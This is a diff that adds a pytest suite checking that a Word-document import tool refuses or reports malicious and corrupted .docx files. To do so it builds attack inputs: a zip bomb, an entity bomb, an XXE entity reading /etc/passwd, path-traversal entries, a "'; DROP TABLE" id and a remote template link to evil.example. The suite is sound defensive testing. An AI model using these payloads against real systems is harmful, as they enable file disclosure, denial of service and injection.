@@ -1,0 +1,270 @@
+"""What strangers send: refused or reported by name, the rest goes on, nothing is written outside."""
+
+from __future__ import annotations
+
+import functools
+import io
+import json
+import random
+import re
+import shutil
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from exports.collect.collecting import read_all
+from exports.collect.sources import NoSource, Source, sources
+from exports.word.carrier import sha256_of
+from models.collecting.judging import Verdict
+from models.desk import Desk
+from models.store import open_store
+from tests.conftest import TODAY
+from tests.exports.collect.conftest import collected, one
+from tests.exports.word.test_word_safety import changed
+
+RECORD, BODY = "customXml/item1.xml", "word/document.xml"
+
+
+@pytest.fixture
+def good(papers: Path) -> bytes:
+    return one(papers, "02_20260909_数学组_理论学习").read_bytes()
+
+
+def part(document: bytes, name: str) -> str:
+    with zipfile.ZipFile(io.BytesIO(document)) as container:
+        return container.read(name).decode()
+
+
+def resealed(document: bytes, change: Callable[[dict], object]) -> bytes:
+    """With another record in it, and its hashes right."""
+    text = part(document, RECORD)
+    start, end = text.index('">') + 2, text.index("</record>")
+    plain = json.loads(
+        text[start:end].replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
+    )
+    change(plain)
+    new = json.dumps(plain, ensure_ascii=False)
+    escaped = new.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+    old = re.search(r'sha256="(\w+)"', text)
+    assert old
+    sealed = sha256_of(new)
+    head = text[:start].replace(old[1], sealed)
+    properties = part(document, "docProps/custom.xml").replace(old[1], sealed)
+    return changed(document, {RECORD: f"{head}{escaped}{text[end:]}".encode(),
+                              "docProps/custom.xml": properties.encode()})  # fmt: skip
+
+
+def bomb(document: bytes) -> bytes:
+    return changed(document, {"word/media/a.xml": b"\0" * (30 << 20)})
+
+
+def entities(document: bytes) -> bytes:
+    body = part(document, BODY)
+    lol = '<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
+    return changed(document, {BODY: body.replace("<w:document", f"{lol}<w:document", 1).encode()})
+
+
+def outside(document: bytes) -> bytes:
+    record = part(document, RECORD)
+    doctype = '<!DOCTYPE record [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+    mended = record.replace("<record", f"{doctype}<record", 1).replace("</record>", "&x;</record>")
+    return changed(document, {RECORD: mended.encode()})
+
+
+def many_rows(document: bytes) -> bytes:
+    def change(plain: dict) -> None:
+        rows = plain["record"]["values"]["steps"]
+        plain["record"]["values"]["steps"] = [{**rows[0], "_id": f"{n:08x}"} for n in range(10_000)]
+
+    return resealed(document, change)
+
+
+def doubled(document: bytes) -> bytes:
+    buffer = io.BytesIO(document)
+    with zipfile.ZipFile(buffer, "a") as container, pytest.warns(match="Duplicate"):
+        container.writestr(BODY, "<x/>")
+    return buffer.getvalue()
+
+
+def meta(**values: object) -> Callable[[bytes], bytes]:
+    return lambda document: resealed(document, lambda plain: plain["record"].update(values))
+
+
+def value(key: str, new: object) -> Callable[[bytes], bytes]:
+    return lambda doc: resealed(doc, lambda plain: plain["record"]["values"].update({key: new}))
+
+
+BAD: dict[str, tuple[Callable[[bytes], bytes], str]] = {
+    "empty": (lambda _d: b"", "空文件"),
+    "cut off": (lambda d: d[: len(d) // 2], "损坏"),
+    "no zip": (lambda _d: b"hello" * 99, "损坏"),
+    "encrypted": (lambda _d: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 999
+                  + "EncryptedPackage".encode("utf-16-le"), "密码"),
+    "an old .doc": (lambda _d: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 999, "老格式"),
+    "zip bomb": (bomb, "压缩得不正常"),
+    "entity bomb": (entities, "外部定义"),
+    "external entity": (outside, "外部定义"),
+    "ten thousand rows": (many_rows, "太多"),
+    "a path outside": (lambda d: changed(d, {"../../evil.xml": b"<x/>"}), "路径"),
+    "an absolute path": (lambda d: changed(d, {"/etc/evil.xml": b"<x/>"}), "路径"),
+    "a part twice": (doubled, "重名"),
+    "the record gone": (lambda d: changed(d, {RECORD: None}), "不见了"),
+    "the record touched": (lambda d: changed(d, {RECORD: part(d, RECORD).replace("数学组", "语文组")
+                                                 .encode()}), "校验码"),
+    "another's properties": (lambda d: changed(d, {"docProps/custom.xml": re.sub(
+        r"[0-9a-f]{64}", "0" * 64, part(d, "docProps/custom.xml")).encode()}), "校验码"),
+    "an unknown kind": (meta(kind="sqlite_master"), "没有“sqlite_master”"),
+    "an unknown state": (meta(state="owned"), "状态"),
+    "an id that is none": (meta(id="'; DROP TABLE"), "标识"),
+    "a version that is none": (meta(version=10**30), "版本号"),
+    "text that is none": (value("theme", {"a": 1}), "应当是文字"),
+    "rows that are none": (value("steps", "x"), "一串"),
+    "a number that is none": (value("week_no", True), "整数"),
+    "a choice that is none": (value("kinds", ["nonsense"]), "没有“nonsense”"),
+    "deep JSON": (lambda d: resealed(d, lambda p: p.update(deep=functools.reduce(
+        lambda inner, _n: [inner], range(500), []))), ""),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", BAD)
+def test_each_is_refused_with_its_reason_and_the_rest_goes_on(
+    name: str, good: bytes, sample_desk: Desk, tmp_path: Path
+) -> None:
+    make, reason = BAD[name]
+    heap = tmp_path / "heap"
+    heap.mkdir()
+    (heap / "a.docx").write_bytes(make(good))
+    (heap / "b.docx").write_bytes(good)
+    before = sample_desk.store.head_hash()
+    found = collected(sample_desk, heap)
+    assert Verdict.UNCHANGED in [one.verdict for one in found.found if "b.docx" in one.source.name]
+    if reason:
+        [(source, why)] = found.refused
+        assert source.name.endswith("a.docx")
+        assert reason in why
+    assert sample_desk.store.head_hash() == before
+    assert not (tmp_path.parent / "evil.xml").exists()
+
+
+def test_macros_and_outside_links_are_never_read_and_said(
+    good: bytes, sample_desk: Desk, tmp_path: Path
+) -> None:
+    links = part(good, "word/_rels/document.xml.rels")
+    template = ('<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                'relationships/attachedTemplate" Target="http://evil.example/x.dotm" '
+                'TargetMode="External"/></Relationships>')  # fmt: skip
+    path = tmp_path / "a.docx"
+    path.write_bytes(changed(good, {
+        "word/vbaProject.bin": b"x",
+        "word/_rels/document.xml.rels": links.replace("</Relationships>", template).encode(),
+    }))  # fmt: skip
+    [found] = collected(sample_desk, path).found
+    assert found.verdict is Verdict.UNCHANGED
+    assert len(found.notices) == 2
+
+
+def test_a_true_hash_over_a_false_record_is_a_conflict(
+    good: bytes, sample_desk: Desk, tmp_path: Path
+) -> None:
+    path = tmp_path / "a.docx"
+    path.write_bytes(value("place", "别处")(good))
+    [found] = collected(sample_desk, path, apply=False).found
+    assert found.verdict is Verdict.CONFLICT
+    assert found.judgement.disputed == ("place",)
+
+
+def test_an_older_clock_wins_nothing(good: bytes, sample_desk: Desk, tmp_path: Path) -> None:
+    path = tmp_path / "a.docx"
+    path.write_bytes(meta(updated_at="1999-01-01T00:00:00.000Z", version=1, lineage="00000000")(
+        value("theme", "旧的题目")(good)))  # fmt: skip
+    [found] = collected(sample_desk, path).found
+    assert found.verdict is Verdict.CONFLICT
+
+
+def test_other_word_files_are_none_of_ours(sample_desk: Desk, tmp_path: Path) -> None:
+    import docx
+
+    docx.Document().save(str(tmp_path / "a.docx"))
+    [(_source, why)] = collected(sample_desk, tmp_path).refused
+    assert "不是教研本导出的" in why
+
+
+def test_zip_files_are_opened_and_bad_ones_named(
+    good: bytes, sample_desk: Desk, tmp_path: Path
+) -> None:
+    heap = tmp_path / "heap"
+    heap.mkdir()
+    with zipfile.ZipFile(heap / "all.zip", "w") as archive:
+        archive.writestr("数学组/../../02.docx", good)
+        archive.writestr("~$02.docx", b"x")
+    (heap / "bad.zip").write_bytes(b"PK\x03\x04 no")
+    found = collected(sample_desk, heap)
+    assert [one.verdict for one in found.found] == [Verdict.UNCHANGED]
+    [(source, _why)] = found.refused
+    assert source.name.endswith("bad.zip")
+    with pytest.raises(NoSource, match="找不到"):
+        list(sources([tmp_path / "nowhere"]))
+
+
+@functools.cache
+def fuzzing_desk(path: Path) -> Desk:
+    return Desk(open_store(path), lambda: TODAY)
+
+
+@pytest.fixture(scope="module")
+def fuzzed(exported_once: Path, sample_file: Path,
+           tmp_path_factory: pytest.TempPathFactory) -> tuple[Desk, list[bytes]]:  # fmt: skip
+    folder = tmp_path_factory.mktemp("fuzz")
+    shutil.copy(sample_file, folder / "x.db")
+    kinds = {p.name.split("_")[2]: p for p in sorted(exported_once.rglob("*.docx"))}
+    return fuzzing_desk(folder / "x.db"), [path.read_bytes() for path in kinds.values()]
+
+
+@given(st.data())
+@settings(max_examples=60)
+def test_no_damage_gets_through(fuzzed: tuple[Desk, list[bytes]], data: st.DataObject) -> None:
+    """Parts dropped, bytes flipped, elements moved: an answer for every file, and no exception."""
+    desk, documents = fuzzed
+    document = data.draw(st.sampled_from(documents))
+    damage = data.draw(st.sampled_from([dropped, flipped, shuffled, flipped_inside]))
+    damaged = damage(document, data.draw(st.randoms(use_true_random=False)))
+    found = read_all(desk, [Source("a.docx", lambda: damaged)])
+    assert len(found.refused) + len(found.questions) + len(found.found) >= 1
+
+
+def dropped(document: bytes, chance: random.Random) -> bytes:
+    with zipfile.ZipFile(io.BytesIO(document)) as container:
+        return changed(document, {chance.choice(container.namelist()): None})
+
+
+def flipped(document: bytes, chance: random.Random) -> bytes:
+    content = bytearray(document)
+    for _time in range(chance.randint(1, 20)):
+        content[chance.randrange(len(content))] ^= 1 << chance.randrange(8)
+    return bytes(content)
+
+
+def flipped_inside(document: bytes, chance: random.Random) -> bytes:
+    name = chance.choice([BODY, RECORD, "customXml/item2.xml", "docProps/custom.xml"])
+    text = part(document, name)
+    at = chance.randrange(len(text))
+    return changed(
+        document, {name: (text[:at] + chance.choice('<>&"x7一') + text[at + 1 :]).encode()}
+    )
+
+
+def shuffled(document: bytes, chance: random.Random) -> bytes:
+    """Children of some element in another order."""
+    from lxml import etree
+
+    root = etree.fromstring(part(document, BODY).encode())
+    for element in chance.sample(list(root.iter()), 5):
+        children = list(element)
+        chance.shuffle(children)
+        for child in children:
+            element.append(child)
+    return changed(document, {BODY: etree.tostring(root)})
